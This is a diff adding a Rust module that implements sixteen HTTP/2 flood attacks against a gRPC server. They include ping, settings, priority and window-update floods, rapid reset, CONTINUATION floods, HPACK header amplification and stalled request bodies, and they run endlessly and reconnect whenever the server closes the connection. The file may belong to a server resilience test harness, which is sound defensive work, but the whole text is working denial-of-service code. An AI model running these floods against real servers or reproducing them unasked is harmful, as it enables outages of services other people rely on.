@@ -1,0 +1,203 @@
+//! Floods: what each sends on a connection, wave after wave, for as long as somebody wants it to.
+
+use std::convert::Infallible;
+use std::net::SocketAddr;
+
+use tokio::io::AsyncWriteExt;
+
+use super::Attacker;
+use super::frames::{
+    A_REMEMBERED_FIELD, CONTINUATION, DATA, END_HEADERS, HEADERS, PING, PRIORITY, RST_STREAM, SETTINGS,
+    UNKNOWN, WINDOW_UPDATE, call, field_to_remember, frame,
+};
+
+/// Frames of a wave: it fits into what a server reads in a turn or two.
+const WAVE: u32 = 500;
+/// The last of the 1,000 streams that a client may have open.
+const MAX_STREAM: u32 = 1_999;
+const CANCEL: [u8; 4] = [0, 0, 0, 8];
+/// Headers that fit into a list of 16 KiB, each counted as its bytes and 32.
+const MANY_FIELDS: usize = 480;
+
+/// A flood.
+#[derive(Clone, Copy)]
+pub struct Flood {
+    pub name: &'static str,
+    /// The first wave of a connection, and each further one; an empty one is the last. It is told the path of a unary rpc and
+    /// the first stream that may be opened, and says which is the next.
+    wave: fn(&mut Vec<u8>, &str, u32) -> u32,
+    /// Whether what the server says is read. A client that does not can hold up only itself.
+    pub listens: bool,
+}
+
+/// Every one of them.
+pub const FLOODS: &[Flood] = &[
+    Flood { name: "pings", wave: pings, listens: true },
+    Flood { name: "pings, answers not read", wave: pings, listens: false },
+    Flood { name: "settings", wave: settings, listens: true },
+    Flood { name: "settings, answers not read", wave: settings, listens: false },
+    Flood { name: "priorities", wave: priorities, listens: true },
+    Flood { name: "window updates", wave: window_updates, listens: true },
+    Flood { name: "unknown frames", wave: unknown_frames, listens: true },
+    Flood { name: "rapid reset", wave: resets, listens: true },
+    Flood { name: "rapid reset, many headers", wave: heavy_resets, listens: true },
+    Flood { name: "rapid reset, answers not read", wave: resets, listens: false },
+    Flood { name: "calls with many headers", wave: heavy_calls, listens: true },
+    Flood { name: "continuations", wave: continuations, listens: true },
+    Flood { name: "empty continuations", wave: empty_continuations, listens: true },
+    Flood { name: "empty data", wave: empty_data, listens: true },
+    Flood { name: "data of one byte", wave: tiny_data, listens: true },
+    Flood { name: "bodies that stop", wave: bodies_that_stop, listens: true },
+];
+
+impl Flood {
+    /// Floods over one connection at a time, as fast as the server lets it; where that is closed, over the next.
+    pub async fn rage(self, address: SocketAddr, path: String) -> Infallible {
+        loop {
+            if let Ok(attacker) = Attacker::connect(address).await {
+                let _closed = self.over(attacker, &path).await;
+            }
+            // Where nothing has to be waited for, others on this runtime would never have their turn.
+            tokio::task::yield_now().await;
+        }
+    }
+
+    /// Floods over a connection until it is closed.
+    async fn over(self, attacker: Attacker, path: &str) -> std::io::Result<()> {
+        let mut next = 1;
+        let mut wave = Vec::new();
+        let mut attacker = if self.listens {
+            let (mut writing, listening) = attacker.listening_to_nothing();
+            loop {
+                wave.clear();
+                next = (self.wave)(&mut wave, path, next);
+                if wave.is_empty() {
+                    // It holds what it has, until the server has had enough.
+                    let _ = listening.await;
+                    return Ok(());
+                }
+                if writing.write_all(&wave).await.is_err() || listening.is_finished() {
+                    listening.abort();
+                    return Ok(());
+                }
+                tokio::task::yield_now().await;
+            }
+        } else {
+            attacker
+        };
+        loop {
+            wave.clear();
+            next = (self.wave)(&mut wave, path, next);
+            attacker.send(&wave).await?;
+        }
+    }
+}
+
+fn pings(wave: &mut Vec<u8>, _: &str, next: u32) -> u32 {
+    (0..WAVE).for_each(|_| frame(wave, PING, 0, 0, b"in vain!"));
+    next
+}
+
+fn settings(wave: &mut Vec<u8>, _: &str, next: u32) -> u32 {
+    // INITIAL_WINDOW_SIZE, which changes each open stream's.
+    (0..WAVE).for_each(|size| frame(wave, SETTINGS, 0, 0, &[0, 4, 0, 0, 0xff, (size % 2) as u8]));
+    next
+}
+
+fn priorities(wave: &mut Vec<u8>, _: &str, next: u32) -> u32 {
+    (0..WAVE).for_each(|number| frame(wave, PRIORITY, 0, 2 * number + 1, &[0, 0, 0, 0, 1]));
+    next
+}
+
+fn window_updates(wave: &mut Vec<u8>, _: &str, next: u32) -> u32 {
+    (0..WAVE).for_each(|_| frame(wave, WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]));
+    next
+}
+
+fn unknown_frames(wave: &mut Vec<u8>, _: &str, next: u32) -> u32 {
+    (0..WAVE).for_each(|_| frame(wave, UNKNOWN, 0, 0, &[]));
+    next
+}
+
+fn resets(wave: &mut Vec<u8>, path: &str, next: u32) -> u32 {
+    let call = call(path);
+    streams(next, WAVE, |stream| {
+        frame(wave, HEADERS, END_HEADERS, stream, &call);
+        frame(wave, RST_STREAM, 0, stream, &CANCEL);
+    })
+}
+
+fn heavy_resets(wave: &mut Vec<u8>, path: &str, next: u32) -> u32 {
+    let call = heavy_call(path, next == 1);
+    streams(next, WAVE, |stream| {
+        frame(wave, HEADERS, END_HEADERS, stream, &call);
+        frame(wave, RST_STREAM, 0, stream, &CANCEL);
+    })
+}
+
+fn heavy_calls(wave: &mut Vec<u8>, path: &str, next: u32) -> u32 {
+    if next > MAX_STREAM {
+        return next;
+    }
+    let call = heavy_call(path, next == 1);
+    streams(next, WAVE, |stream| frame(wave, HEADERS, END_HEADERS, stream, &call))
+}
+
+/// A call whose headers are two bytes each on the wire and a hundred when they are read.
+fn heavy_call(path: &str, is_first: bool) -> Vec<u8> {
+    let mut block = call(path);
+    // Asked for again with each block of the first wave: what is remembered last is found first.
+    if is_first {
+        field_to_remember(&mut block, b"a", b"");
+    }
+    block.extend([A_REMEMBERED_FIELD; MANY_FIELDS]);
+    block
+}
+
+fn continuations(wave: &mut Vec<u8>, path: &str, next: u32) -> u32 {
+    frame(wave, HEADERS, 0, next, &call(path));
+    let mut part = Vec::new();
+    super::frames::field(&mut part, b"x-more", &[b'x'; 1_000]);
+    (0..WAVE).for_each(|_| frame(wave, CONTINUATION, 0, next, &part));
+    next + 2
+}
+
+fn empty_continuations(wave: &mut Vec<u8>, path: &str, next: u32) -> u32 {
+    frame(wave, HEADERS, 0, next, &call(path));
+    (0..WAVE).for_each(|_| frame(wave, CONTINUATION, 0, next, &[]));
+    next + 2
+}
+
+fn empty_data(wave: &mut Vec<u8>, path: &str, next: u32) -> u32 {
+    frame(wave, HEADERS, END_HEADERS, next, &call(path));
+    (0..WAVE).for_each(|_| frame(wave, DATA, 0, next, &[]));
+    next + 2
+}
+
+fn tiny_data(wave: &mut Vec<u8>, path: &str, next: u32) -> u32 {
+    frame(wave, HEADERS, END_HEADERS, next, &call(path));
+    frame(wave, DATA, 0, next, &[0, 0, 0, 3, 0xe8]);
+    (0..WAVE).for_each(|_| frame(wave, DATA, 0, next, b"\n"));
+    next + 2
+}
+
+/// Each a message of which all but the end comes, as many as there may be streams.
+fn bodies_that_stop(wave: &mut Vec<u8>, path: &str, next: u32) -> u32 {
+    const BYTES: usize = 15_000;
+    if next > MAX_STREAM {
+        return next;
+    }
+    let call = call(path);
+    let mut most = vec![0, 0, 0, 0x3a, 0x99];
+    most.resize(BYTES + 5, b'\n');
+    streams(next, 20, |stream| {
+        frame(wave, HEADERS, END_HEADERS, stream, &call);
+        frame(wave, DATA, 0, stream, &most);
+    })
+}
+
+/// Opens so many streams, and says which is the next.
+fn streams(next: u32, count: u32, mut open: impl FnMut(u32)) -> u32 {
+    (0..count).for_each(|number| open(next + 2 * number));
+    next + 2 * count
+}
